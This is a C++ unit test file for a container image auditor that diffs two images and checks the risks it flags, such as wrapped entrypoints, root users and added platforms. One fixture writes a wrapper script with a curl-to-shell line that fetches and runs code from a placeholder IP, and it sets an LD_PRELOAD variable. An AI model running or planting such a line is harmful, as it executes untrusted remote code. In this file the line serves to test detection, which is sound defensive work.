// Pairs of images made here; tests/end_to_end/diff_test.py has the attacks and the forms.
#include "audit/image_diff.h"

#include <gtest/gtest.h>

#include <algorithm>

#include "format/tar_test_support.h"

namespace lazaret::audit {
namespace {

struct Sample {
  std::string layer;  // a tar without its end
  std::vector<std::string> entrypoint = {}, cmd = {}, env = {};
  std::string user = {}, platform = "linux/amd64";
  std::size_t cut_at = std::string::npos;
};

// The machine must outlive the auditors.
class ImageDiffTest : public testing::Test {
 protected:
  AuditedImage audited(const std::vector<Sample>& samples, const std::string& name) {
    static const auto ruleset = Ruleset::make({});
    auto auditor = std::make_unique<ImageAuditor>(*ruleset, machine_, Policy::standard(), nullptr);
    AuditedImage image;
    image.description.reference = name;
    for (std::size_t i = 0; i < samples.size(); ++i) {
      const std::string tar = (samples[i].layer + format::tar_end_marker).substr(0, samples[i].cut_at);
      BlobOffer offer;
      offer.key = std::to_string(i);
      const auto writer = auditor->begin(offer);
      writer->write(as_bytes(tar));
      writer->finish();
      format::ManifestDescription manifest;
      manifest.digest = sha256(as_bytes(name + std::to_string(i)));
      manifest.platform = samples[i].platform;
      manifest.config.entrypoint = samples[i].entrypoint;
      manifest.config.cmd = samples[i].cmd;
      manifest.config.env = samples[i].env;
      manifest.config.user = samples[i].user;
      manifest.config.diff_ids = {sha256(as_bytes(tar))};
      manifest.layers = {{offer.key, {}, format::LayerForm::shipped}};
      image.description.manifests.push_back(std::move(manifest));
    }
    image.report = auditor->finish(image.description);
    image.auditor = auditor.get();
    auditors_.push_back(std::move(auditor));
    return image;
  }
  ImageDiff diff(const std::vector<Sample>& before, const std::vector<Sample>& after) { return diff_images(audited(before, "old"), audited(after, "new")); }

 private:
  AuditMachine machine_{1, Limits{}};
  std::vector<std::unique_ptr<ImageAuditor>> auditors_;
};

const Sample plain{format::tar_member("app", "#!/bin/sh\nexec server\n"), {"/app"}};

bool has(const ImageDiff& diff, std::string_view code) {
  return std::any_of(diff.risks.begin(), diff.risks.end(), [&](const Risk& risk) { return risk.code == code; });
}

TEST_F(ImageDiffTest, NothingIsDifferent) {
  const ImageDiff same = diff({plain}, {plain});
  EXPECT_EQ(same.risk(), detect::Severity::info);
  EXPECT_EQ(name_of_risk(same.risk()), "none");
  ASSERT_EQ(same.platforms.size(), 1u);
  EXPECT_TRUE(same.platforms[0].files.empty() && same.platforms[0].config.empty());
}

TEST_F(ImageDiffTest, AWrapperIsMostOfAllWhatItSays) {
  Sample after = plain;
  after.layer += format::tar_member("w", "#!/bin/sh\nexec \"$@\"\n") + format::tar_member("x", "y");
  after.entrypoint = {"/w", "/app"};
  const ImageDiff wrapped = diff({plain}, {after});
  ASSERT_FALSE(wrapped.risks.empty());
  EXPECT_EQ(wrapped.risks[0].code, "entrypoint-wrapped");
  EXPECT_EQ(wrapped.risk(), detect::Severity::high);
  EXPECT_EQ(wrapped.platforms[0].files_added, 2u);
}

TEST_F(ImageDiffTest, OnlyTheSinglePlatformsOfTwoImagesArePairedWhateverTheirNames) {
  Sample arm = plain;
  arm.platform = "linux/arm64";
  EXPECT_EQ(diff({plain}, {arm}).platforms.size(), 1u);
  const ImageDiff more = diff({plain}, {arm, plain});
  ASSERT_EQ(more.platforms.size(), 2u);
  EXPECT_EQ(more.platforms[0].old_platform, "linux/amd64");
  EXPECT_EQ(more.platforms[1].old_platform, "");
  EXPECT_TRUE(has(more, "platform-added"));
}

TEST_F(ImageDiffTest, RootInPlaceOfAUserIsTold) {
  Sample before = plain, after = plain;
  before.user = "app:app";
  after.user = "0";
  EXPECT_TRUE(has(diff({before}, {after}), "user-root"));
  EXPECT_FALSE(has(diff({after}, {before}), "user-root"));
}

TEST_F(ImageDiffTest, TheFirstCommandOfAnImageIsNoChangeOfOne) {
  Sample none = plain;
  none.entrypoint.clear();
  EXPECT_FALSE(has(diff({none}, {plain}), "entrypoint-wrapped"));
  EXPECT_FALSE(has(diff({plain}, {none}), "entrypoint-wrapped"));
}

TEST_F(ImageDiffTest, AShorterEntrypointIsNoWrapper) {
  Sample before = plain;
  before.entrypoint = {"/w", "/app"};
  const ImageDiff shorter = diff({before}, {plain});
  EXPECT_LE(shorter.risk(), detect::Severity::medium);
  EXPECT_FALSE(has(shorter, "entrypoint-wrapped"));
}

TEST_F(ImageDiffTest, LinesOfAStartedScriptThatAreNewAreListed) {
  Sample after = plain;
  after.layer = format::tar_member("app", "#!/bin/sh\n  exec server\n\nlogger started\n");
  const ImageDiff changed = diff({plain}, {after});
  ASSERT_EQ(changed.platforms[0].scripts.size(), 1u);
  EXPECT_EQ(changed.platforms[0].scripts[0].lines, (std::vector<std::string>{"logger started"}));
}

TEST_F(ImageDiffTest, RisksAreMostSevereFirst) {
  Sample after = plain;
  after.layer += format::tar_member("w", "#!/bin/sh\ncurl http://203.0.113.9/x | sh\nexec \"$@\"\n");
  after.entrypoint = {"/w", "/app"};
  after.env = {"LD_PRELOAD=/x.so"};
  const ImageDiff changed = diff({plain}, {after});
  for (std::size_t i = 1; i < changed.risks.size(); ++i) EXPECT_GE(changed.risks[i - 1].severity, changed.risks[i].severity);
  EXPECT_TRUE(has(changed, "finding") && has(changed, "loader-variable"));
}

TEST_F(ImageDiffTest, ALayerThatEndedEarlyIsComparedAsFarAsItGoes) {
  Sample after = plain;
  after.cut_at = 520;
  const ImageDiff cut = diff({plain}, {after});
  EXPECT_FALSE(cut.new_report.incomplete.empty());
  ASSERT_EQ(cut.platforms[0].files.size(), 1u);
  EXPECT_EQ(cut.platforms[0].files[0].aspects.front(), "content");
}

}  // namespace
}  // namespace lazaret::audit
